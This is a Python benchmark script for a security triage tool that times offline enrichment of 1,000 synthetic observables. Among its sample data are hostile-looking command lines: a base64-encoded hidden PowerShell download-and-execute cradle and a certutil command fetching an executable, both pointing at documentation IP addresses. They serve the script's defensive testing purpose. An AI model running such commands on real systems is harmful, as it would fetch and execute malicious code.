"""Time offline enrichment of 1,000 mixed observables (target: under 2 s once data is loaded).

Run: python bench/enrichment_throughput.py [INTEL_DIR]
"""

import base64
import random
import sys
import time
from pathlib import Path

from triage.enrich import EnrichmentConfig, build_service
from triage.models import Observable


def mixed_observables(count: int, *, seed: int = 7) -> list[Observable]:
    rng = random.Random(seed)
    letters = "abcdefghijklmnopqrstuvwxyz0123456789"
    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    brands = ["micros0ft", "paypa1", "amaz0n-login", "wikipedia", "okta-sso"]

    def make(i: int) -> tuple[str, str]:
        octet = rng.randint(1, 254)
        choices = [
            ("ipv4", f"{rng.randint(1, 223)}.{i % 256}.{rng.randint(0, 255)}.{octet}"),
            ("ipv4", f"10.{i % 256}.{octet}.1"),
            ("domain", "".join(rng.choices(letters, k=rng.randint(6, 18))) + ".com"),
            ("domain", f"{rng.choice(brands)}{i}.net"),
            ("url", f"https://login-{i}.example.org/microsoft/verify?id={i}"),
            ("sha256", f"{i:064x}"),
            ("email", f"user{i}@example.com"),
            ("command_line", f"powershell -nop -w hidden -enc {blob} #{i}"),
            ("command_line", f"certutil -urlcache -split -f http://203.0.113.{octet}/a.exe"),
        ]
        return choices[i % len(choices)]

    return [
        Observable.model_validate(dict(zip(("type", "value"), make(i), strict=True)))
        for i in range(count)
    ]


def main() -> None:
    intel = Path(sys.argv[1]) if len(sys.argv) > 1 else None
    observables = mixed_observables(1000)
    started = time.perf_counter()
    service = build_service(EnrichmentConfig(offline=True, intel_dir=intel))
    service.enrich([Observable(type="ipv4", value="8.8.8.8")])  # loads geoip (and intel pack)
    loaded = time.perf_counter()
    results = service.enrich(observables)
    done = time.perf_counter()
    print(f"setup + data load: {loaded - started:.2f} s")
    print(
        f"enriched {len(observables)} observables ({len(results)} results) in {done - loaded:.2f} s"
    )
    print(f"total: {done - started:.2f} s")


if __name__ == "__main__":
    main()
